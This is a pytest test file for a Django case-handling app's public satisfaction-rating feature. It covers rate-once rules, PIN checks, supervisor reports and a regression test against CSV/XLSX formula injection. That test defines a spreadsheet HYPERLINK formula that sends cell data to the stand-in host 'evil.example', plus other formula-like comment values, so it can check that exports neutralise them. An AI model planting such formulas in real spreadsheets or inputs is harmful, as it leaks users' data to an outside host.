"""Satisfaction ratings: the public endpoint (code + PIN), once per case, once returned."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cases import services
from reports.models import Rating

from .conftest import vn

pytestmark = pytest.mark.django_db


def returned_case(file_case, staff):
    case = file_case(vn(2026, 11, 2, 9, 0))
    pin = case.pin
    at = vn(2026, 11, 3, 9, 0)
    for action, by, params in (
        ("assign", "counter", {"officer": staff["officer"]}),
        ("submit-result", "officer", {}),
        ("sign", "signer", {}),
        ("return", "counter", {"channel": "online"}),
    ):
        case = services.case_act(case=case, action=action, by=staff[by], now=at, **params)
    return case, pin


def rate(client, case, pin, body):
    return client.post(f"/api/v1/public/cases/{case.code}/rating/?pin={pin}", body, format="json")


def test_the_applicant_rates_a_returned_case_once(file_case, staff, client_for):
    case, pin = returned_case(file_case, staff)
    client = client_for()
    answer = rate(client, case, pin, {"rating": "not_satisfied", "comment": "Chờ lâu"})
    assert answer.status_code == 201
    assert answer.json()["rating"] == "not_satisfied"
    again = rate(client, case, pin, {"rating": "very_satisfied"})
    assert again.status_code == 409 and again.json()["error"] == "invalid_transition"
    assert Rating.objects.get(case=case).value == "not_satisfied"
    lookup = client.get(f"/api/v1/public/cases/{case.code}/?pin={pin}").json()
    assert lookup["rating"]["rating"] == "not_satisfied"


def test_a_case_not_yet_returned_cannot_be_rated(file_case, client_for):
    case = file_case(vn(2026, 11, 2, 9, 0))
    answer = rate(client_for(), case, case.pin, {"rating": "satisfied"})
    assert answer.status_code == 409
    assert not Rating.objects.exists()


def test_a_wrong_pin_is_not_found_and_a_bad_rating_is_a_field_error(file_case, staff, client_for):
    case, pin = returned_case(file_case, staff)
    assert rate(client_for(), case, "WRONG123", {"rating": "satisfied"}).status_code == 404
    answer = rate(client_for(), case, pin, {"rating": "great"})
    assert answer.status_code == 400 and "rating" in answer.json()


def test_the_rating_form_on_the_public_page(file_case, staff, client):
    case, pin = returned_case(file_case, staff)
    page = client.post("/", {"code": case.code, "pin": pin}, follow=True)
    assert b'name="rating"' in page.content
    assert pin.encode() not in page.content  # the form rates the case the session proved
    answer = client.post("/rating/", {"rating": "satisfied", "comment": "Tốt"})
    assert answer.status_code == 302
    page = client.get(answer["Location"])
    assert b'name="rating"' not in page.content
    assert Rating.objects.get(case=case).comment == "Tốt"


def test_the_rating_form_rates_only_a_case_this_browser_proved(file_case, staff, client):
    case, pin = returned_case(file_case, staff)
    answer = client.post("/rating/", {"code": case.code, "pin": pin, "rating": "satisfied"})
    assert answer.status_code == 302 and not Rating.objects.filter(case=case).exists()


def test_supervisors_read_the_ratings(file_case, staff, client_for):
    case, pin = returned_case(file_case, staff)
    rate(client_for(), case, pin, {"rating": "satisfied", "comment": "Nhanh"})
    client = client_for(staff["supervisor"])
    body = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01"}).json()
    assert [(r["code"], r["rating"], r["comment"]) for r in body["results"]] == [
        (case.code, "satisfied", "Nhanh")
    ]
    assert client_for(staff["counter"]).get("/api/v1/reports/ratings/").status_code == 403


def body_of(answer) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("comment", [FORMULA, "+1+1", "-2+3", "@SUM(A1)"])
def test_a_comment_that_looks_like_a_formula_is_exported_as_text(
    file_case, staff, client_for, comment
):
    """Regression (OWASP CSV injection): a rating comment starting with `=` was a live
    formula in the ratings XLSX and written raw into the CSV."""
    case, pin = returned_case(file_case, staff)
    rate(client_for(), case, pin, {"rating": "not_satisfied", "comment": comment})
    kept = Rating.objects.get(case=case).comment  # without the spaces around it
    client = client_for(staff["supervisor"])

    answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(body_of(answer).decode("utf-8-sig"))))
    assert [row["comment"] for row in rows] == ["'" + kept]

    answer = client.get("/api/v1/reports/ratings/", {"from": "2026-01-01", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(body_of(answer))).active
    header, row = [[(cell.value, cell.data_type) for cell in r] for r in sheet.iter_rows()]
    assert row[[value for value, _ in header].index("comment")] == ("'" + kept, "s")
    assert [kind for _, kind in row if kind == "f"] == []
